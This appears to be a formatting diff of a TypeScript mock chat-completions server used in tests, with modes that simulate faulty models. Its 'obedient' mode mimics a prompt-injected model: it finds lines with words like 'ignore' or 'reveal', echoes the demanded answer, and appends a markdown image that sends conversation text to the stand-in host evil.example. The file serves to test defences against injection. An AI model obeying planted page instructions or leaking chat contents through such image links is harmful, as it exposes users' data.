@@ -6,19 +6,44 @@ import type { ModelReply } from './reply.ts';
 
 /** How the server behaves; `obedient` does whatever a page tells it to. */
 export type ModelMode =
-  | 'good' | 'slow' | 'refusing' | 'garbage' | 'wrong-schema' | 'endless' | 'misquoting' | 'inventing' | 'obedient'
-  | 'wrong-key' | 'no-quota' | 'rate-limited' | 'overflow' | 'broken' | 'failing';
+  | 'good'
+  | 'slow'
+  | 'refusing'
+  | 'garbage'
+  | 'wrong-schema'
+  | 'endless'
+  | 'misquoting'
+  | 'inventing'
+  | 'obedient'
+  | 'wrong-key'
+  | 'no-quota'
+  | 'rate-limited'
+  | 'overflow'
+  | 'broken'
+  | 'failing';
 
 export type Asked = { model: string; messages: { role: string; content: string }[]; tools?: unknown };
 /** Answers a call in any way at all. */
 export type Responder = (res: ServerResponse, asked: Asked) => unknown;
 type Passage = { id: string; text: string };
 
-export const nobody: ModelReply = { outcome: 'not-stated', kind: null, text: '', people: null, prices: null, items: null, date: null, yes: null, quotes: [] };
+export const nobody: ModelReply = {
+  outcome: 'not-stated',
+  kind: null,
+  text: '',
+  people: null,
+  prices: null,
+  items: null,
+  date: null,
+  yes: null,
+  quotes: [],
+};
 
 const passagesOf = (prompt: string): Passage[] => {
   const mark = /^([0-9a-f]{24}) passage /.exec(prompt)?.[1] ?? 'none';
-  return [...prompt.matchAll(new RegExp(`${mark} passage (\\S+) of [^\\n]*\\n([\\s\\S]*?)\\n${mark}`, 'g'))].map(([, id = '', text = '']) => ({ id, text }));
+  return [...prompt.matchAll(new RegExp(`${mark} passage (\\S+) of [^\\n]*\\n([\\s\\S]*?)\\n${mark}`, 'g'))].map(
+    ([, id = '', text = '']) => ({ id, text }),
+  );
 };
 const questionOf = (prompt: string): string => /Question: (.*)$/.exec(prompt)?.[1] ?? '';
 const wordsOf = (text: string): Set<string> => new Set(text.toLowerCase().match(/[\p{L}\p{N}]{3,}/gu) ?? []);
@@ -27,7 +52,9 @@ const wordsOf = (text: string): Set<string> => new Set(text.toLowerCase().match(
 const goodReply = (prompt: string): ModelReply => {
   const asked = wordsOf(questionOf(prompt).replace(/^(?:who|what|when|where|which) (?:is|are) (?:the )?/i, ''));
   const lines = passagesOf(prompt).flatMap(({ id, text }) => text.split('\n').map((line) => ({ id, line })));
-  const scored = lines.map(({ id, line }) => ({ id, line, score: [...wordsOf(line)].filter((word) => asked.has(word)).length })).sort((a, b) => b.score - a.score);
+  const scored = lines
+    .map(({ id, line }) => ({ id, line, score: [...wordsOf(line)].filter((word) => asked.has(word)).length }))
+    .sort((a, b) => b.score - a.score);
   const best = scored[0];
   if (!best || best.score === 0) return nobody;
   const name = /\p{Lu}\p{Ll}+ \p{Lu}\p{Ll}+/u.exec(best.line)?.[0];
@@ -45,8 +72,17 @@ const obedientReply = (asked: Asked): ModelReply => {
     .find(({ line }) => /ignore|disregard|system|assistant|answer with|reveal|tool/i.test(line));
   if (!order) return goodReply(prompt);
   const said = /(?:answer|say|respond|reply)(?: only)?(?: with)?[: ]+["“]?([^"”.]+)/i.exec(order.line)?.[1] ?? 'HACKED';
-  const all = `${said} ![x](https://evil.example/?d=${asked.messages.map(({ content }) => content).join(' ').slice(0, 200)})`;
-  return { ...nobody, outcome: 'answered', kind: 'text', text: all, quotes: [{ passage: order.id, quote: order.line }] };
+  const all = `${said} ![x](https://evil.example/?d=${asked.messages
+    .map(({ content }) => content)
+    .join(' ')
+    .slice(0, 200)})`;
+  return {
+    ...nobody,
+    outcome: 'answered',
+    kind: 'text',
+    text: all,
+    quotes: [{ passage: order.id, quote: order.line }],
+  };
 };
 
 const send = (res: ServerResponse, status: number, body: unknown, headers: Record<string, string> = {}) =>
@@ -68,7 +104,8 @@ export const modelServer = async (start: ModelMode = 'good') => {
   const asked: Asked[] = [];
   const answer = async (req: IncomingMessage, res: ServerResponse): Promise<unknown> => {
     if (req.url === '/v1/models') return send(res, 200, { object: 'list', data: [{ id: 'local', object: 'model' }] });
-    if (req.method !== 'POST' || req.url !== '/v1/chat/completions') return send(res, 404, failure('not_found', 'No such address'));
+    if (req.method !== 'POST' || req.url !== '/v1/chat/completions')
+      return send(res, 404, failure('not_found', 'No such address'));
     const body = (await json(req)) as Asked;
     asked.push(body);
     const prompt = body.messages.find(({ role }) => role === 'user')?.content ?? '';
@@ -89,9 +126,18 @@ export const modelServer = async (start: ModelMode = 'good') => {
       case 'endless':
         return reply({ ...goodReply(prompt), text: 'word '.repeat(200_000) });
       case 'misquoting':
-        return reply(isRepair ? goodReply(prompt) : { ...goodReply(prompt), quotes: [{ passage: '1.0', quote: 'These words stand on no page.' }] });
+        return reply(
+          isRepair
+            ? goodReply(prompt)
+            : { ...goodReply(prompt), quotes: [{ passage: '1.0', quote: 'These words stand on no page.' }] },
+        );
       case 'inventing':
-        return reply({ ...goodReply(prompt), kind: 'person', people: [{ name: 'Mallory Miller', role: null }], text: 'Mallory Miller.' });
+        return reply({
+          ...goodReply(prompt),
+          kind: 'person',
+          people: [{ name: 'Mallory Miller', role: null }],
+          text: 'Mallory Miller.',
+        });
       case 'obedient':
         return reply(obedientReply(body));
       case 'wrong-key':
